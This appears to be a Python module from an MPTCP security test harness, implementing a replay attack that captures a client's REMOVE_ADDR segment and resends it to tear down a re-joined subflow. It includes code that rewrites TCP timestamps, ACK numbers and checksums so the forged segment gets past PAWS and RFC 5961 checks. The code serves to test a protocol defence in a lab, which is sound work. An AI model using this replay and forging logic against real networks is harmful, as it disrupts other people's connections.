"""Attack 14 (mptcrypt-specific), signal replay: a verified MPTCP signal of the victim's, sent again later.

Issue 12 item 9. A MAC verifies the same bytes as often as they arrive (and PAWS cannot be counted on: a protected
segment with a long signal leaves without timestamps, a join starts from a restored zero one), so a pure ACK
carrying an MPTCP signal that the victim once sent, MAC and all, verifies again when an on-path attacker replays
it. The runner makes the victim send one: once the path-2 subflow carries data, it
removes the client's path-2 endpoint (`ip mptcp endpoint delete id N`: the client's kernel sends REMOVE_ADDR(N) on
path 1 and closes path 2) and adds it again with the same id (a new path-2 join). The attacker captures the
REMOVE_ADDR segment off path 1 and, after data moved on, replays the captured frame byte for byte. A server that
acts on it closes the NEW path-2 subflow again: the client's own, authenticated signal, used against it. Against
plain MPTCP the signal is unauthenticated anyway; the replay has the same effect (as attack 4a), once its
timestamp and ACK are freshened (PAWS, RFC 7323 §5, and RFC 5961 §5.2 drop it otherwise; nothing authenticates
them).

The transfer is download-only (`TRANSFER`): a replayed segment is acted on by the server's kernel only while its
sequence number is still in the receive window (RFC 9293 §3.10.7.4), i.e. while the signal's sender has sent no data
on that subflow since, and its ACK is older than the last by less than a window: a client that only reads (a
download, an idle ssh) sends exactly such pure ACKs, whose ACK moves while their sequence number stands still.

Effect measured: the re-joined path-2 subflow, up when the replay left, gone from the server's `ss` afterwards.
"""

from __future__ import annotations

import re
import struct
import threading
import time

from mptcrypt.attacks.judging import decide
from mptcrypt.attacks.runner import ADDRS, CLIENT, CellContext, Evidence, Verdict
from mptcrypt.wire.mptcp import Subtype

NUMBER = 14
TITLE = "replay of the victim's own verified REMOVE_ADDR"
SOURCE = "issue 12 item 9 (no replay window, no PAWS on protected flows); RFC 8684 §3.4.2"
REMOVE_AFTER = 1.4  # s after the connection is up: the agent is already waiting for the signal
READD_AFTER = 0.5  # s later the endpoint comes back (same id): a new path-2 join
REPLAY_AFTER = 1.5  # s after the signal was sniffed: the re-joined subflow is up (and sampled) by then
REPLAYS = 3
# the client only reads: its subflow sequence numbers stand still (the server's reader waits for its FIN)
TRANSFER = {"up_per_tick": 0, "idle_timeout": 8.0}


def attack(agent) -> dict:
    v = agent.view
    if v.cport is None:
        return {"skipped": "no connection"}
    sig = agent.next_segment(lambda s: s.src == v.client and s.sport == v.cport and s.dport == v.port
                             and s.mp(Subtype.REMOVE_ADDR) is not None, timeout=3.0)
    if sig is None:
        return {"skipped": "the victim's REMOVE_ADDR was not seen on path 1"}
    head = sig.eth_dst + sig.eth_src + (b"\x86\xdd" if ":" in sig.src else b"\x08\x00")
    captured = {"seq": sig.seq, "ack": sig.ack, "mac": sig.mac, "timestamps": sig.ts is not None,
                "ids": list(sig.mp(Subtype.REMOVE_ADDR).rm_ids), "t": round(sig.t, 4)}
    agent.pump(sig.t + REPLAY_AFTER)
    replay_t = time.time()
    for _ in range(REPLAYS):
        packet, how = sig.packet, "byte for byte"
        if not sig.mac and sig.ts is not None and v.c2s.ts is not None:
            # plain MPTCP, nothing authenticated: PAWS would drop the old TSval, and an ACK older than the
            # peer's window the RFC 5961 §5.2 check; the attacker freshens both
            packet, how = refresh(sig.packet, v.c2s.ts, v.c2s.ack), "with the client's latest timestamp and ACK"
        agent.send(head + packet, f"the victim's REMOVE_ADDR segment replayed {how}", seq=sig.seq, ack=sig.ack)
        agent.pump(time.time() + 0.15)
    return {"captured": captured, "replay_t": round(replay_t, 4),
            "seq_moved_since": (v.c2s.nxt - sig.seq) & 0xFFFFFFFF if v.c2s.nxt is not None else None}


def refresh(packet: bytes, ts: tuple[int, int], ack: int) -> bytes:
    """`packet` with its TCP timestamp option set to `ts` (TSval, TSecr), its ACK number to `ack` and its TCP
    checksum fixed. Only a segment without a MAC can be changed so (the MAC covers the timestamps), so a protected
    subflow's replay is the captured bytes."""
    from mptcrypt.constants import TCPOPT_TIMESTAMP
    from mptcrypt.wire.checksum import tcp_checksum
    from mptcrypt.wire.segment import parse_segment

    seg = parse_segment(packet)
    out = bytearray(packet)
    at, end = seg.opt_start, seg.data_off
    while at < end and packet[at] != TCPOPT_TIMESTAMP:  # well-formed: the tap's parser read it (Seg.ts)
        at += 1 if packet[at] <= 1 else packet[at + 1]
    out[at + 2:at + 10] = struct.pack("!II", *ts)
    out[seg.l4 + 8:seg.l4 + 12] = struct.pack("!I", ack)
    out[seg.l4 + 16:seg.l4 + 18] = b"\0\0"
    out[seg.l4 + 16:seg.l4 + 18] = struct.pack("!H", tcp_checksum(seg.src, seg.dst, bytes(out[seg.l4:])))
    return bytes(out)


# --- runner hook: make the victim send the signal -------------------------------------------------------------------


def prepare(ctx: CellContext) -> None:
    client = ctx.net[CLIENT]
    addr = ADDRS[4]["client2"]
    shown = client.run(["ip", "mptcp", "endpoint", "show"]).stdout
    m = re.search(rf"^{re.escape(addr)} id (\d+) (.*?)dev (\S+)", shown, re.M)
    if m is None:
        raise RuntimeError(f"the client has no MPTCP endpoint {addr}: {shown!r}")
    ep_id, flags, dev = m.group(1), m.group(2).split(), m.group(3)
    log: dict = {"endpoint": f"{addr} id {ep_id} {' '.join(flags)} dev {dev}"}
    ctx.extra["signal"] = log
    readd = ["ip", "mptcp", "endpoint", "add", addr, "dev", dev, "id", ep_id, *flags]

    def run() -> None:
        from mptcrypt.topo import tcp_subflows

        deadline = time.time() + 8
        while time.time() < deadline and len(tcp_subflows(client, ctx.port)) < 2:  # both subflows up
            time.sleep(0.05)
        time.sleep(REMOVE_AFTER)
        client.run(["ip", "mptcp", "endpoint", "delete", "id", ep_id])
        log["removed_t"] = round(time.time(), 4)
        time.sleep(READD_AFTER)
        client.run(readd)
        log["readded_t"] = round(time.time(), 4)

    thread = threading.Thread(target=run, daemon=True, name="mptc-attack-signal")
    thread.start()

    def restore() -> None:  # the endpoint is back for the next cell whatever happened
        thread.join(10)
        if addr not in client.run(["ip", "mptcp", "endpoint", "show"]).stdout:
            client.run(readd, check=False)

    ctx.cleanups.append(restore)


def judge(ev: Evidence) -> Verdict:
    r = ev.result
    sig = ev.extra.get("signal") or {}
    replay_t = r.get("replay_t")
    at_replay = ev.paths_at("server", replay_t) if replay_t else {}
    after = ev.paths_at("server", ev.steady_end)
    evidence = {
        "victim_signal": sig,
        "captured": r.get("captured"),
        "seq_moved_since_capture": r.get("seq_moved_since"),
        "server_path2_at_replay": "path2" in at_replay,
        "server_path2_after": "path2" in after,
        "server_stale_signals_dropped": ev.stat("server", "stale_signals_dropped"),
        "MPTcpExt_RmAddr": {h: ev.counter(h, "RmAddr") for h in ("client", "server") if ev.counter(h, "RmAddr")},
    }
    if replay_t and "path2" not in at_replay:
        evidence["note"] = "the re-joined path-2 subflow was not up when the replay left: nothing to measure"
    effective = "path2" in at_replay and "path2" not in after
    return decide(ev, effective, "the replayed REMOVE_ADDR closed the re-joined path-2 subflow",
                  "replayed REMOVE_ADDR ignored: the re-joined path-2 subflow is still up", evidence,
                  need_keys=False)
